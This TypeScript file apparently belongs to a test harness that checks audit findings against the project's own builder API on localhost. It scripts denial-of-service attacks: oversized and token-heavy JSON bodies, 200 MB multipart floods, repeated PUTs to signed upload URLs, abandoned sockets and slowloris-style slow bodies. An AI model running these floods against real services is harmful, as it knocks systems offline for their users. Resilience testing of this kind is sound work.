import { setTimeout as sleep } from 'node:timers/promises';
import { type Attack, get, post, toText } from '../attack.ts';
import { presign, upload } from './images.ts';

const MIB = 1_048_576;

/** Returns a photo report of the maximum size that the API accepts. */
export function largestReport(kind: 'texts' | 'runs', name: string, revision: number): string {
  const richText =
    kind === 'texts'
      ? [{ text: 'x'.repeat(20_000) }]
      : Array.from({ length: 200 }, (_, at) => ({ text: `${at}`, marks: ['BOLD'] }));
  const items = Array.from({ length: 8 }, (_, at) => ({ id: `${at}`, richText }));
  const block = (at: number) =>
    kind === 'texts'
      ? { sourceBlockId: `${at}`, type: 'TEXT', properties: {}, richText }
      : { sourceBlockId: `${at}`, type: 'BULLETED_LIST', properties: { items } };
  return JSON.stringify({
    ...{
      sourceApp: 'attack',
      sourceExternalId: name,
      sourceRevision: revision,
      sourceCreatedAt: '2026-03-02T07:30:00Z',
    },
    ...{ walkthroughDate: '2026-03-02T07:00:00Z', sourceAuthor: { externalId: 'a', name: 'b' } },
    page: { schemaVersion: 1, title: 'Walk', blocks: Array.from({ length: 500 }, (_, at) => block(at)) },
  });
}

/** Returns the text with another report id and revision, without serializing it again. */
const renumber = (text: string, name: string, revision: number) =>
  text
    .replace('"sourceExternalId":"0"', `"sourceExternalId":"${name}"`)
    .replace('"sourceRevision":1', `"sourceRevision":${revision}`);

export const bodyAttacks: Attack[] = [
  {
    ...{ name: 'bodies-tokens', finding: '7', short: true },
    about: 'Photo-report bodies of 30 MB of repeated `{},`, 8 connections',
    run: (session) => {
      const { attacker } = session;
      const path = `/builders/${attacker.builderId}/photo-reports/sync`;
      const body = `{"page":{"blocks":[${'{},'.repeat(10_000_000)}{}]}}`;
      return session.flood(8, (number) => post(attacker, number, path, body));
    },
  },
  {
    ...{ name: 'bodies-reports', finding: '7' },
    about: 'The largest valid photo reports (500 blocks with the longest texts, or 800,000 short runs), 8 connections',
    run: (session) => {
      const { attacker } = session;
      const path = `/builders/${attacker.builderId}/photo-reports/sync`;
      const texts = [largestReport('texts', '0', 1), largestReport('runs', '0', 1)];
      return session.flood(8, (number) =>
        post(attacker, number, path, renumber(texts[number % 2]!, `largest-${number % 8}`, number + 1)),
      );
    },
  },
  {
    ...{ name: 'uploads-bulk', finding: '6', short: true },
    about: 'Bulk uploads of 200 MB with a token of `read:builders`, and one signed upload URL that is PUT many times',
    run: async (session) => {
      const { attacker } = session;
      const intent = await presign(session, attacker, MIB, 'image/jpeg');
      const file = Buffer.alloc(8 * MIB, 1);
      const parts: Buffer[] = [];
      for (let at = 0; at < 25; at++) {
        const names = `name="file:${at}"; filename="a.jpg"`;
        const type = `--b\r\ncontent-disposition: form-data; name="type:${at}"\r\n\r\nattachment\r\n`;
        const head = `--b\r\ncontent-disposition: form-data; ${names}\r\ncontent-type: image/jpeg\r\n\r\n`;
        parts.push(Buffer.from(type), Buffer.from(head), file, Buffer.from('\r\n'));
      }
      const body = Buffer.concat([...parts, Buffer.from('--b--\r\n')]);
      const headers = {
        authorization: `Bearer ${attacker.narrowToken}`,
        'content-type': 'multipart/form-data; boundary=b',
      };
      const bulk = { method: 'POST', path: `/builders/${attacker.builderId}/attachments/bulk-upload`, headers, body };
      const bytes = Buffer.alloc(MIB, 2);
      await Promise.all([
        session.flood(2, () => bulk),
        intent &&
          session.flood(16, (number) => {
            bytes.writeUInt32BE(number);
            return {
              method: 'PUT',
              path: intent.path,
              headers: { 'content-type': 'image/jpeg' },
              body: Buffer.from(bytes),
            };
          }),
      ]);
    },
  },
  {
    name: 'uploads-rejected-parts',
    about: 'Bulk uploads of 25 parts of 8 MiB each under names that are not accepted, 64 at once',
    run: (session) => {
      const { attacker } = session;
      const bytes = Buffer.alloc(8 * MIB, 4);
      const parts = Array.from({ length: 25 }, (_, at) => [
        Buffer.from(`--b\r\ncontent-disposition: form-data; name="other:${at}"; filename="a.jpg"\r\n\r\n`),
        ...[bytes, Buffer.from('\r\n')],
      ]);
      const body = Buffer.concat([...parts.flat(), Buffer.from('--b--\r\n')]);
      const path = `/builders/${attacker.builderId}/attachments/bulk-upload`;
      return session.flood(64, (number) => {
        const { headers } = get(attacker, number, path);
        const type = { 'content-type': 'multipart/form-data; boundary=b' };
        return { method: 'POST', path, headers: { ...headers, ...type }, body };
      });
    },
  },
  {
    name: 'bodies-rejected',
    about: 'Bodies of 60 MiB that are rejected as soon as they begin, 64 at once',
    run: (session) => {
      const { attacker } = session;
      const body = Buffer.alloc(60 * MIB, ' ');
      const path = `/builders/${attacker.builderId}/meetings`;
      return session.flood(64, (number) => ({ ...post(attacker, number, path, ''), body }));
    },
  },
  {
    name: 'uploads-parallel',
    about: 'Uploads of 8 MiB to signed URLs at full rate, 64 at once',
    run: async (session) => {
      const bytes = Buffer.alloc(8 * MIB, 3);
      const work = async (first: number) => {
        for (let number = first; !session.isOver; number += 64) {
          const reference = await upload(session, session.attacker, bytes, 'image/jpeg', number);
          if (!reference) await new Promise((done) => setTimeout(done, 50));
        }
      };
      await Promise.all(Array.from({ length: 64 }, (_, at) => work(at)));
    },
  },
  {
    name: 'bodies-medium',
    about: 'JSON bodies of 100 KB with 49,000 tokens, of meetings and of photo reports, 64 connections',
    run: (session) => {
      const { attacker } = session;
      const invalid = `{"title":"Attack","agenda":[${'{},'.repeat(16_000)}{}]}`;
      const report = `{"sourceApp":"attack","page":{"schemaVersion":1,"title":"Walk","blocks":[${'{},'.repeat(16_000)}{}]}}`;
      return session.flood(64, (number) => {
        const path = `/builders/${attacker.builderId}/${number % 2 ? 'meetings' : 'photo-reports/sync'}`;
        return post(attacker, number, path, number % 2 ? invalid : report);
      });
    },
  },
  {
    name: 'reports-page',
    about: 'The page of one of the largest photo reports (`/reports/…`), for a signed-in user, 16 connections',
    run: async (session) => {
      const { attacker } = session;
      const path = `/builders/${attacker.builderId}/photo-reports/sync`;
      const client = session.client(1, 100_000);
      const { body, status } = await session.prepare(client, post(attacker, 0, path, largestReport('runs', 'page', 1)));
      if (status !== 200) throw new Error(`The report was refused: ${status}`);
      const { photoReportId } = JSON.parse(body);
      const { cookie } = attacker.user;
      await session.flood(16, () => ({ path: `/reports/${photoReportId}`, headers: { cookie } }));
    },
  },
  {
    name: 'reports-graphql',
    about: 'Five of the largest photo reports read through GraphQL with their pages, 8 connections',
    run: async (session) => {
      const { attacker } = session;
      const path = `/builders/${attacker.builderId}/photo-reports/sync`;
      const client = session.client(1);
      for (let at = 0; at < 5; at++) {
        await session.prepare(client, post(attacker, at, path, largestReport('texts', `read-${at}`, 1)));
      }
      const query = `{ photoReports(builderId: "${attacker.builderId}", sourceApp: "attack") { data { id page { title blocks {
        __typename sourceBlockId ... on ReportText { richText { text marks } } } } } } }`;
      await session.flood(8, (number) => post(attacker, number, '/graphql', { query }));
    },
  },
  {
    name: 'bodies-abandoned',
    about:
      'The largest photo reports of one identity, whose clients go away while they wait for each other, 16 connections',
    run: async (session) => {
      const { attacker } = session;
      const path = `/builders/${attacker.builderId}/photo-reports/sync`;
      const report = largestReport('texts', '0', 1);
      const abandon = async (first: number) => {
        for (let number = first; !session.isOver; number += 16) {
          const body = renumber(report, 'abandoned', number + 1);
          const socket = session.openSocket(toText(post(attacker, number, path, body)));
          session.count('sent');
          await sleep(300 + ((number * 137) % 2_000));
          socket.destroy();
        }
      };
      await Promise.all(Array.from({ length: 16 }, (_, at) => abandon(at)));
    },
  },
  {
    name: 'bodies-slow',
    about: 'Three hundred connections that announce large bodies, of forms, reports and uploads, and send them slowly',
    run: async (session) => {
      const { attacker } = session;
      const json = `/builders/${attacker.builderId}/photo-reports/sync`;
      const form = `/builders/${attacker.builderId}/attachments/upload`;
      for (let at = 0; at < 300; at++) {
        const isForm = at % 2 === 0;
        const { headers } = get(attacker, at, json);
        const lines = Object.entries(headers!).map(([name, value]) => `${name}: ${value}\r\n`);
        const type = isForm ? 'multipart/form-data; boundary=b' : 'application/json';
        const start = isForm
          ? '--b\r\ncontent-disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
          : '{"page":"';
        const socket = session.openSocket(
          `POST ${isForm ? form : json} HTTP/1.1\r\nhost: localhost\r\n${lines.join('')}content-type: ${type}\r\n` +
            `content-length: 30000000\r\n\r\n${start}${'x'.repeat(90_000)}`,
        );
        socket.resume();
        setInterval(() => socket.write('x'.repeat(900)), 100).unref();
        session.count('sent');
      }
      await session.waitForEnd();
    },
  },
];
